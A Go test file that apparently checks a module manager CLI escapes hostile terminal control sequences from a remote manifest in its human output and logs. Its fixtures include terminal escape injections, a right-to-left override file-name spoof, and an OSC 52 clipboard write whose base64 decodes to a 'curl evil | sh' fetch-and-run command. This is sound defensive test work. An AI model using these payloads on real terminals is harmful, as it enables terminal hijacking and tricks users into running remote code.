package main

import (
	"encoding/json"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/modup/modup/internal/faults"
)

// Terminal escapes a hostile remote may send: OSC 0 retitles the window,
// CSI 2J clears the screen, OSC 52 writes the clipboard; the 8-bit CSI
// (C1) and a right-to-left override hide what text says.
const (
	escTitle     = "\x1b]0;pwned\x07"
	escClear     = "\x1b[2J"
	escClipboard = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
	escC1        = "\u009b2J"
	escBidi      = "\u202e"
)

// TestRemoteEscapes: a remote whose manifest's name, version and news
// carry terminal escapes (and a module description with escapes and HTML)
// cannot reach the terminal through any human output of check, info,
// update, status or the daemon's text log; JSON output keeps the exact
// text; a module description's HTML shows as text.
func TestRemoteEscapes(t *testing.T) {
	base := t.TempDir()
	srv := faults.New(t, "")
	news := escClear + "release notes" + escClipboard + "\nsecond line\r" + escBidi + "txt.exe"
	name := escTitle + "evil"
	badVersion := "9.9.9" + escC1 + escTitle
	descr := `<b>Paste</b> text &amp; <i>files</i><br>without formatting ` + escClear

	// newsy: a valid release whose name and news are hostile.
	zipped := advTree("newsy", "2.0.0", "", 3, 32)
	srv.Put("/newsy/2.0.0.zip", advZip(t, zipped))
	manifest, _ := json.Marshal(map[string]string{"name": name, "version": "2.0.0", "news": news})
	srv.Put("/newsy/a2modsource.json", manifest)
	// badver: the version itself is hostile (and not comparable).
	manifest, _ = json.Marshal(map[string]string{"name": "badver", "version": badVersion, "news": news})
	srv.Put("/badver/a2modsource.json", manifest)

	root := filepath.Join(base, "root")
	newsy := advTree("newsy", "1.0.0", srv.URL+"/newsy/", 3, 32)
	newsy["mod00/a2module.json"] = `[{"typ": "nfo", "version": "1.0.0", "description": ` + jsonString(t, descr) + `}]`
	advWrite(t, filepath.Join(root, "newsy"), newsy)
	advWrite(t, filepath.Join(root, "badver"), advTree("badver", "1.0.0", srv.URL+"/badver/", 3, 32))

	human := map[string]string{}
	jsonOut := map[string]string{}
	cli := func(args ...string) {
		_, out, errOut := advRun(t.Context(), nil, append(args, "--root", root)...)
		key := "modup " + strings.Join(args, " ")
		if args[len(args)-1] == "--json" {
			jsonOut[key] = out
			human[key+" (stderr)"] = errOut
			return
		}
		human[key] = out + errOut
	}
	cli("check")
	cli("check", "--json")
	cli("check", "-v")
	cli("info", "newsy")
	cli("info", "newsy", "--json")
	cli("info", "badver")
	human["daemon log"] = advDaemonOnce(t, root, 2)
	cli("status")
	cli("status", "--json")
	cli("update", "--all")
	cli("update", "--all", "--json")
	// The remote's name is shown by release check, and by install, which
	// would name a folder after it.
	cli("release", "check", srv.URL+"/newsy/")
	cli("install", srv.URL+"/newsy/")

	t.Logf("%d human outputs and logs searched for escapes; %d JSON outputs", len(human), len(jsonOut))
	for what, text := range human {
		for _, bad := range []string{"\x1b", "\u009b", "\u202e", "\r", "\x07"} {
			if i := strings.Index(text, bad); i >= 0 {
				t.Errorf("%s writes %q to the terminal: %q", what, bad, text[max(i-40, 0):min(i+40, len(text))])
			}
		}
	}
	// The escapes show, harmless, where the text goes.
	for what, want := range map[string][]string{
		"modup info newsy": {`\x1b[2Jrelease notes\x1b]52;c;Y3VybCBldmlsIHwgc2g=\a`, `second line\r\u202etxt.exe`,
			`mod00  1.0.0  Paste text & files without formatting \x1b[2J`},
		"modup check": {`badver: `, `9.9.9\u009b2J\x1b]0;pwned\a`},
		"modup release check " + srv.URL + "/newsy/": {`names \x1b]0;pwned\aevil 2.0.0`},
	} {
		for _, w := range want {
			if !strings.Contains(human[what], w) {
				t.Errorf("%s does not show %q:\n%s", what, w, human[what])
			}
		}
	}

	// JSON keeps every byte.
	var check struct {
		Packages []struct{ Name, Available, News string }
	}
	if err := json.Unmarshal([]byte(jsonOut["modup check --json"]), &check); err != nil {
		t.Fatalf("check --json: %v\n%s", err, jsonOut["modup check --json"])
	}
	got := map[string][2]string{}
	for _, p := range check.Packages {
		got[p.Name] = [2]string{p.Available, p.News}
	}
	if got["newsy"] != [2]string{"2.0.0", news} || got["badver"][0] != badVersion {
		t.Errorf("check --json changed the remote's text: %q", got)
	}
	var info struct {
		Modules []struct{ Description string }
		Check   struct{ News string }
	}
	if err := json.Unmarshal([]byte(jsonOut["modup info newsy --json"]), &info); err != nil {
		t.Fatal(err)
	}
	if len(info.Modules) != 1 || info.Modules[0].Description != descr || info.Check.News != news {
		t.Errorf("info --json changed the text: %+v", info)
	}
	// The daemon installed the hostile-news release (its text log quotes
	// the remote's values: slog's text handler escapes control characters).
	if !regexp.MustCompile(`msg=install package=newsy from=1\.0\.0 to=2\.0\.0 status=updated`).MatchString(human["daemon log"]) {
		t.Errorf("the daemon did not install newsy:\n%s", human["daemon log"])
	}
	if !strings.Contains(human["daemon log"], `available="9.9.9\u009b2J\x1b]0;pwned\a"`) {
		t.Errorf("the daemon log does not quote the hostile version:\n%s", human["daemon log"])
	}
}

func jsonString(t *testing.T, s string) string {
	t.Helper()
	b, err := json.Marshal(s)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}
